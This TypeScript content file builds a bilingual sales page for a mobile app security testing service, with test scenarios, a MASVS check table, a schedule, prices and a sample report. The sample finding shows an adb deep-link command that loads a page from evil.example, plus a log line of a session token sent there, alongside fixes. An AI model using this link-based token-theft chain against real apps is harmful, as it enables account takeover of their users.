import { appbdsUsd } from "@zhian/contracts/demo-prices";
import type { CtaBlock, FaqBlock, StepsBlock } from "@zhian/page/content";
import type { DeliverableBlock } from "../../model/instrument-content.ts";
import type {
  FeaturesBlock,
  PageContent,
  PricesBlock,
  RelatedBlock,
  ScenariosBlock,
  SpecsBlock,
} from "../../model/page-content.ts";
import { demoPriceNote, demoPrices } from "../notes.ts";

const scenarios: ScenariosBlock = {
  is: "scenarios",
  anchor: "scenarios",
  nav: { en: "Before what", zh: "什么时候测" },
  heading: { en: "Three releases that should not go out untested", zh: "三种不该不测就发的版本" },
  items: [
    {
      id: "first",
      name: { en: "The first one", zh: "首个版本" },
      problem: {
        en: "An outside team has built the app for a chain of clinics. It works, and that is all anybody has looked at.",
        zh: "外包团队给连锁诊所做了 App，功能能跑，大家也只看过功能。",
      },
      approach: {
        en: "Static and dynamic testing on both platforms, with two patients' accounts, two weeks before the store review.",
        zh: "提交商店审核前两周，双平台静态加动态检测，用两个患者账号。",
      },
      result: {
        en: "Faults are mended by those who wrote them, while their contract still runs.",
        zh: "趁合同没结束，谁写的谁修。",
      },
      products: ["appbds", "apppcard", "appsss"],
    },
    {
      id: "sdk",
      name: { en: "The one with a new SDK", zh: "换了 SDK 的版本" },
      problem: {
        en: "Marketing wants a push library. It brings eleven components, four permissions and a web view of its own.",
        zh: "市场部要接一个推送库，它带来十一个组件、四项权限和一个自己的 WebView。",
      },
      approach: {
        en: "Two builds are compared, without and with it: manifest, components, hosts that are called, files that are written.",
        zh: "对比接入前后两个包：清单、组件、外联域名、写出的文件。",
      },
      result: {
        en: "A page that says what came in with it, to be decided on before it is merged.",
        zh: "一页纸写明它带来了什么，合入前再拍板。",
      },
      products: ["appbds", "scas"],
    },
    {
      id: "money",
      name: { en: "The one with money in it", zh: "加了支付的版本" },
      problem: {
        en: "A loyalty app gets a purse. Points that could be forged for fun can now be spent.",
        zh: "积分 App 加了钱包，以前伪造着玩的积分，现在能花了。",
      },
      approach: {
        en: "Binding of session and device, replay of payment calls, local storage of amounts, the way back from the bank's page.",
        zh: "测会话与设备绑定、支付请求重放、金额本地存储、银行页面回跳。",
      },
      result: {
        en: "What the app decides today moves to the server, where it belongs.",
        zh: "原本由 App 判断的，移回服务端。",
      },
      products: ["appbds", "pts", "waf"],
    },
  ],
};

const deliverable: DeliverableBlock = {
  is: "deliverable",
  anchor: "sample",
  nav: { en: "Sample report", zh: "报告样例" },
  heading: { en: "A finding that one link is enough for", zh: "一个链接就能触发的漏洞" },
  lead: {
    en: "From the report's second chapter. The fault has three parts, each of them harmless by itself.",
    zh: "摘自报告第二章。三个环节单看都无害，连起来就出事。",
  },
  caption: {
    en: "Figure 1. Testing report of an invented bookshop app, com.example.books 5.1",
    zh: "图 1　虚构书店 App com.example.books 5.1 的检测报告节选",
  },
  note: {
    en: "The app is made up and evil.example belongs to nobody. The chain of faults is a real and frequent one.",
    zh: "App 为虚构，evil.example 不属于任何人。这条利用链真实且常见。",
  },
  document: {
    title: { en: "App security test, Android", zh: "App 安全检测报告（Android）" },
    number: "SAMPLE-ABD-051",
    meta: [
      { en: "For developers; summary for the product owner", zh: "写给开发，摘要写给产品负责人" },
      { en: "30 to 60 pages a platform (demo)", zh: "每平台 30 至 60 页（演示）" },
    ],
    parts: [
      {
        id: "chain",
        name: { en: "Finding A-02", zh: "问题 A-02" },
        paragraphs: [
          {
            en: "Account takeover by a link (high). OpenActivity is exported and answers to books://open. It loads the parameter url into a web view without looking at the host. In that web view, the script interface Native offers getToken(). A link in a message is enough; the user taps once.",
            zh: "点链接即可接管账号（高危）。OpenActivity 可被外部调起，响应 books://open；它不校验域名就把 url 参数载入 WebView；该 WebView 暴露脚本接口 Native.getToken()。发一条带链接的消息，用户点一下就中招。",
          },
        ],
        listing: [
          "$ adb shell am start -W -a android.intent.action.VIEW \\",
          '    -d "books://open?url=https://evil.example/t.html" com.example.books',
          "Status: ok   Activity: com.example.books/.OpenActivity",
          "",
          "evil.example access log:",
          '198.51.100.23 "GET /c?t=eyJhbGciOi[[...]] HTTP/1.1" 200',
        ],
      },
      {
        id: "mend",
        name: { en: "To mend it", zh: "修复办法" },
        paragraphs: [
          {
            en: "Each of three changes breaks the chain; make all three. Compare the parsed host with a list of your own before loading (not startsWith, which books.example.evil.example passes). Remove getToken() and let the page have a session of its own. Handle links with verified App Links instead of a scheme that any app may claim.",
            zh: "三处改任意一处都能断链，建议都改：载入前解析出主机名再比对白名单（不要用 startsWith，books.example.evil.example 能绕过）；删除 getToken()，网页用独立会话；改用经验证的 App Links，自定义协议谁都能抢注。",
          },
        ],
      },
      {
        id: "list",
        name: { en: "All findings", zh: "问题一览" },
        table: {
          columns: [
            { en: "No.", zh: "编号" },
            { en: "Finding", zh: "问题" },
            { en: "MASVS group", zh: "MASVS 分组" },
            { en: "Severity", zh: "等级" },
          ],
          rows: [
            [
              { en: "A-01", zh: "A-01" },
              { en: "Release build with android:debuggable=true", zh: "发布包 android:debuggable=true" },
              { en: "RESILIENCE", zh: "RESILIENCE" },
              { en: "High", zh: "高" },
            ],
            [
              { en: "A-02", zh: "A-02" },
              { en: "Account takeover by a link", zh: "链接接管账号" },
              { en: "PLATFORM", zh: "PLATFORM" },
              { en: "High", zh: "高" },
            ],
            [
              { en: "A-03", zh: "A-03" },
              {
                en: "Session token in SharedPreferences, included in cloud backup",
                zh: "会话令牌存 SharedPreferences 且随云备份导出",
              },
              { en: "STORAGE", zh: "STORAGE" },
              { en: "Medium", zh: "中" },
            ],
            [
              { en: "A-04", zh: "A-04" },
              { en: "AES in ECB mode, key [[16 bytes]] in the code", zh: "AES 使用 ECB 模式，密钥[[16 字节]]硬编码" },
              { en: "CRYPTO", zh: "CRYPTO" },
              { en: "Medium", zh: "中" },
            ],
            [
              { en: "A-05", zh: "A-05" },
              { en: "Certificate errors ignored in the update download", zh: "下载更新时忽略证书错误" },
              { en: "NETWORK", zh: "NETWORK" },
              { en: "High", zh: "高" },
            ],
          ],
        },
      },
    ],
    signed: {
      en: "Signed by the tester; a colleague has repeated every high finding on another telephone",
      zh: "由检测人员签字，所有高危由另一人换手机复现",
    },
  },
};

const checks: SpecsBlock = {
  is: "specs",
  anchor: "checks",
  nav: { en: "What is tested", zh: "检测内容" },
  heading: { en: "What is tested, group by group", zh: "逐组看检测什么" },
  lead: {
    en: "Ordered by the groups of OWASP MASVS, a public standard, so that you can compare offers.",
    zh: "按公开标准 OWASP MASVS 分组，方便你与别家方案对比。",
  },
  caption: { en: "Table 1. Groups, examples, and the way of testing", zh: "表 1　分组、示例与检测方式" },
  columns: [
    { en: "Group", zh: "分组" },
    { en: "For example", zh: "例如" },
    { en: "By reading", zh: "静态" },
    { en: "By running", zh: "动态" },
  ],
  rows: [
    {
      label: { en: "STORAGE", zh: "STORAGE 存储" },
      cells: [
        { en: "Tokens in files, logs, screenshots of the task list", zh: "令牌写入文件、日志，任务切换截图" },
        { en: "Yes", zh: "是" },
        { en: "Files compared before and after use", zh: "使用前后比对文件" },
      ],
    },
    {
      label: { en: "CRYPTO", zh: "CRYPTO 密码" },
      cells: [
        { en: "Fixed keys, ECB, weak random numbers", zh: "硬编码密钥、ECB、弱随机数" },
        { en: "Yes", zh: "是" },
        { en: "Calls recorded with their arguments", zh: "记录调用参数" },
      ],
    },
    {
      label: { en: "AUTH", zh: "AUTH 认证" },
      cells: [
        { en: "Fingerprint that only returns true, codes without limit", zh: "指纹只返回 true，验证码不限次数" },
        { en: "In part", zh: "部分" },
        { en: "Two accounts, replayed requests", zh: "双账号、重放请求" },
      ],
    },
    {
      label: { en: "NETWORK", zh: "NETWORK 网络" },
      cells: [
        { en: "Clear text, certificates not checked", zh: "明文、不校验证书" },
        { en: "Yes", zh: "是" },
        { en: "A proxy with a wrong certificate", zh: "用错误证书代理" },
      ],
    },
    {
      label: { en: "PLATFORM", zh: "PLATFORM 平台交互" },
      cells: [
        { en: "Exported components, web views, links, clipboard", zh: "导出组件、WebView、链接、剪贴板" },
        { en: "Yes", zh: "是" },
        { en: "Called from a second app of ours", zh: "用自制 App 逐个调用" },
      ],
    },
    {
      label: { en: "CODE", zh: "CODE 代码" },
      cells: [
        { en: "Libraries with known faults, unsafe updates", zh: "含已知漏洞的库、不安全更新" },
        { en: "List of components with versions", zh: "列出组件与版本" },
        { en: "Malformed input to open doors", zh: "对入口发畸形输入" },
      ],
    },
    {
      label: { en: "RESILIENCE", zh: "RESILIENCE 对抗" },
      cells: [
        { en: "Debuggable builds, no check of the signature", zh: "可调试、不校验签名" },
        { en: "Yes", zh: "是" },
        { en: "Repackaging tried once", zh: "试一次重打包" },
      ],
    },
    {
      label: { en: "PRIVACY", zh: "PRIVACY 隐私" },
      cells: [
        { en: "Only what shows by the way", zh: "只记录顺带发现的" },
        { en: "In part", zh: "部分" },
        { en: "See the privacy check", zh: "见个人信息合规检测" },
      ],
    },
  ],
  note: {
    en: "The interface on your server is tested as far as the app calls it, and only with your consent in writing.",
    zh: "服务端接口仅测 App 会调用的部分，并须书面授权。",
  },
};

const steps: StepsBlock = {
  is: "steps",
  anchor: "delivery",
  nav: { en: "Eight days", zh: "八天" },
  heading: { en: "Eight working days for one platform", zh: "单平台八个工作日" },
  items: [
    {
      title: { en: "Hand over two builds", zh: "给两个包" },
      text: {
        en: "The one for the store and one without obfuscation or certificate pinning. It saves two days of getting in.",
        zh: "一个商店包，一个不混淆、不做证书绑定的包，能省两天“开锁”时间。",
      },
      who: { en: "You", zh: "你" },
      duration: { en: "Day 1", zh: "第 1 天" },
    },
    {
      title: { en: "Read", zh: "静态分析" },
      text: {
        en: "Manifest, code, libraries, secrets. It gives the list of doors for the next step.",
        zh: "看清单、代码、依赖、密钥，列出下一步要敲的门。",
      },
      who: { en: "Tester", zh: "检测人员" },
      duration: { en: "Days 2 and 3", zh: "第 2、3 天" },
    },
    {
      title: { en: "Run", zh: "动态测试" },
      text: {
        en: "On real telephones, one of them with full rights. Traffic is read, calls are recorded, doors are knocked at.",
        zh: "在真机上跑，其中一台有最高权限，看流量、记调用、逐门敲。",
      },
      who: { en: "Tester", zh: "检测人员" },
      duration: { en: "Days 4 to 6", zh: "第 4 至 6 天" },
    },
    {
      title: { en: "Report and talk", zh: "报告与沟通" },
      text: {
        en: "Written, then explained to those who will mend it.",
        zh: "先给书面报告，再讲给修的人听。",
      },
      who: { en: "Tester, your developers", zh: "检测人员与你方开发" },
      duration: { en: "Days 7 and 8", zh: "第 7、8 天" },
    },
    {
      title: { en: "Test the mended build", zh: "复测" },
      text: {
        en: "Once, within 45 days; only the findings.",
        zh: "45 天内一次，只测已报告问题。",
      },
      who: { en: "Tester", zh: "检测人员" },
      duration: { en: "1 day", zh: "1 天" },
    },
  ],
};

const features: FeaturesBlock = {
  is: "features",
  anchor: "features",
  nav: { en: "How we test", zh: "检测方法" },
  heading: { en: "Not the output of a scanner with a new cover", zh: "不是给扫描结果换个封面" },
  items: [
    {
      title: { en: "From warning to proof", zh: "从告警到证明" },
      text: {
        en: "Tools print two hundred warnings for any app. About ten matter.",
        zh: "任何 App 扫一遍都有两百条告警，要紧的不过十来条。",
      },
      mechanism: {
        en: "Each candidate is followed from the outer door to the effect, and becomes a finding when it can be triggered on a telephone without special rights.",
        zh: "每条线索从入口追到后果，能在普通手机上触发的才算问题。",
      },
      limit: {
        en: "What needs full rights on the telephone is listed apart, one step lower.",
        zh: "需要手机最高权限才能利用的单列，并降一级。",
      },
    },
    {
      title: { en: "The app between other apps", zh: "放在别的 App 中间看" },
      text: {
        en: "On a telephone your neighbour is whatever the user installed yesterday.",
        zh: "手机上，你的邻居是用户昨天随手装的东西。",
      },
      mechanism: {
        en: "A small app of ours, without permissions, calls every exported activity, service, receiver and provider with odd arguments.",
        zh: "用一个零权限的自制 App，带着各种怪参数调用所有导出的 Activity、Service、Receiver、Provider。",
      },
      limit: {
        en: "Odd means a few hundred variants, not millions: this is testing and no fuzzing campaign.",
        zh: "几百种变体，不是几百万种：这是检测，不是长时间模糊测试。",
      },
    },
    {
      title: { en: "Behaviour over a day", zh: "看一整天的行为" },
      text: {
        en: "Some things happen only at night, on charge, or after an update of a library's rules.",
        zh: "有些行为只在夜里、充电时，或库拉到新配置之后才出现。",
      },
      mechanism: {
        en: "The app runs for 24 hours with the clock moved, in two countries by SIM; all hosts called are listed with the library that calls.",
        zh: "拨动系统时间跑满 24 小时，用两国 SIM，列出所有外联主机及发起的库。",
      },
      limit: {
        en: "Code that waits for a signal from its maker stays asleep. The report names libraries that could load code later.",
        zh: "等作者下指令才醒的代码测不到，报告会点名能动态加载代码的库。",
      },
    },
    {
      title: { en: "Fixes in your language", zh: "用你的语言写修复" },
      text: {
        en: "Kotlin for Kotlin, Swift for Swift, Dart for Flutter.",
        zh: "Kotlin 给 Kotlin，Swift 给 Swift，Flutter 给 Dart。",
      },
      mechanism: {
        en: "Advice holds the changed lines and a test that fails before and passes after.",
        zh: "建议里写出要改的行，并附一个改前失败、改后通过的测试。",
      },
      limit: {
        en: "For closed libraries there is only: update, configure, or replace.",
        zh: "闭源库只有三条路：升级、改配置、换掉。",
      },
    },
  ],
};

const prices: PricesBlock = {
  is: "prices",
  anchor: "prices",
  nav: { en: "Prices", zh: "价格" },
  heading: { en: "One platform, or both with their differences", zh: "单平台，或双平台连带差异" },
  demo: demoPrices,
  lines: [
    {
      id: "one",
      name: { en: "Android or iOS", zh: "Android 或 iOS" },
      for: { en: "One app, about 60 screens, two roles, one retest", zh: "一个 App，约 60 个界面，两个角色，一次复测" },
      usd: appbdsUsd.onePlatform,
      unit: "once",
    },
    {
      id: "two",
      name: { en: "Android and iOS", zh: "Android 与 iOS" },
      for: { en: "The same on both; the shared interface is tested once", zh: "双平台，共用接口只测一次" },
      usd: appbdsUsd.twoPlatforms,
      unit: "once",
    },
  ],
  note: {
    en: `Mini programs and HarmonyOS builds are quoted singly. ${demoPriceNote.en}`,
    zh: `小程序与鸿蒙应用单独报价。${demoPriceNote.zh}`,
  },
};

const questions: FaqBlock = {
  is: "faq",
  anchor: "faq",
  nav: { en: "FAQ", zh: "常见问题" },
  heading: { en: "Asked by product owners", zh: "产品负责人常问" },
  items: [
    {
      question: { en: "The store reviews apps. Why again?", zh: "商店会审核，为什么还要测？" },
      answer: {
        en: "The store looks for apps that harm users on purpose. It does not look for your mistakes.",
        zh: "商店找的是故意害人的 App，不替你找自己的疏忽。",
      },
    },
    {
      question: { en: "Do you need the source?", zh: "需要源码吗？" },
      answer: {
        en: "No. With it the same days reach further, because nothing has to be guessed. You choose.",
        zh: "不需要。给了的话，同样的天数能查得更深，不用猜。由你决定。",
      },
    },
    {
      question: { en: "Should we harden first?", zh: "要先加固再检测吗？" },
      answer: {
        en: "No. Test the naked build, mend it, harden it. Testing a shell tells you how good the shell is.",
        zh: "不要。先测裸包、修好、再加固。对着壳测，测的是壳好不好。",
      },
    },
    {
      question: { en: "Flutter, React Native: can you read those?", zh: "Flutter、React Native 能测吗？" },
      answer: {
        en: "Yes. Scripts of React Native are readable even as bytecode with effort. Flutter code is compiled; there we rely on running it, and on the build without obfuscation.",
        zh: "能。React Native 脚本编成字节码也能还原；Flutter 是编译代码，主要靠动态测试和不混淆的包。",
      },
    },
    {
      question: { en: "Is there an official certificate after it?", zh: "测完有官方证书吗？" },
      answer: {
        en: "No. You get our report. Certification of apps in China is done by bodies accredited for it, against a standard of their own.",
        zh: "没有，你得到的是我们的报告。App 安全认证由具备资格的认证机构按其标准进行。",
      },
    },
  ],
};

const related: RelatedBlock = {
  is: "related",
  anchor: "related",
  heading: { en: "Next to the test", zh: "检测的前后左右" },
  items: [
    {
      product: "apppcard",
      relation: { en: "The same app, asked about personal data", zh: "同一个 App，换成查个人信息" },
    },
    { product: "appsss", relation: { en: "After the mending: the shell", zh: "修好之后：上壳" } },
    { product: "pts", relation: { en: "The server behind the app, without the app", zh: "抛开 App，测背后的服务端" } },
    {
      product: "scas",
      relation: { en: "Reads all the source, not only what the app shows", zh: "通读源码，不止 App 露出的部分" },
    },
  ],
  solutions: ["finance-security", "game-security"],
};

const callToAction: CtaBlock = {
  is: "cta",
  anchor: "start",
  heading: { en: "Send the build that you are about to publish", zh: "把准备发布的包发来" },
  lead: {
    en: "Before we quote, we read its manifest, at no charge: you hear how many doors stand open to other apps.",
    zh: "报价前先免费看一眼清单文件，告诉你有多少扇门对其他 App 敞开。",
  },
  actions: [
    { label: { en: "Upload a build", zh: "上传安装包" }, to: "console:/appbds/create" },
    { label: { en: "Check privacy as well", zh: "同时查隐私合规" }, to: "/products/apppcard" },
  ],
};

export const content: PageContent = {
  code: "appbds",
  title: { en: "App Security Testing", zh: "App 安全检测服务" },
  lead: {
    en: "We read your Android or iOS app, run it on real telephones and prove which faults can be used, before somebody else does. For teams with a release date who want findings they can mend, not two hundred warnings.",
    zh: "读你的 Android 或 iOS App，在真机上跑，抢在别人之前证明哪些漏洞真能用。适合发布日期已定、要的是能修的问题而不是两百条告警的团队。",
  },
  actions: [
    { label: { en: "Read a finding", zh: "看一个漏洞" }, to: "#sample" },
    { label: { en: "Open in the console", zh: "进入控制台" }, to: "console:/appbds" },
  ],
  facts: [
    {
      label: { en: "One platform (demo price)", zh: "单平台（演示价格）" },
      value: { is: "price", usd: appbdsUsd.onePlatform, unit: { en: "once, with a retest", zh: "一次，含复测" } },
      anchor: "prices",
    },
    {
      label: { en: "Ordered by", zh: "检测分组依据" },
      value: { is: "words", words: { en: "OWASP MASVS", zh: "OWASP MASVS" } },
      anchor: "checks",
    },
    {
      label: { en: "Duration (demo)", zh: "工期（演示）" },
      value: { is: "words", words: { en: "8 working days", zh: "8 个工作日" } },
      anchor: "delivery",
    },
    {
      label: { en: "Watched while it runs", zh: "连续观察" },
      value: { is: "words", words: { en: "24 hours", zh: "24 小时" } },
      anchor: "features",
    },
  ],
  blocks: [scenarios, deliverable, checks, steps, features, prices, questions, related, callToAction],
  seo: {
    title: { en: "App Security Testing for Android and iOS, by MASVS", zh: "App 安全检测：MASVS 分组、漏洞样例、价格" },
    description: {
      en: "App testing on real phones with proof for each finding: a sample takeover by link, groups of OWASP MASVS, eight-day schedule, prices.",
      zh: "真机检测 Android、iOS App，逐个证明：链接接管账号样例、OWASP MASVS 分组、八天安排与价格。",
    },
    keywords: {
      en: "app security testing, Android, iOS, OWASP MASVS, exported components, WebView, ZhiAn Cloud",
      zh: "App安全检测,移动应用检测,MASVS,组件导出,WebView漏洞,智安云",
    },
  },
  updatedAt: "2026-11-21",
};
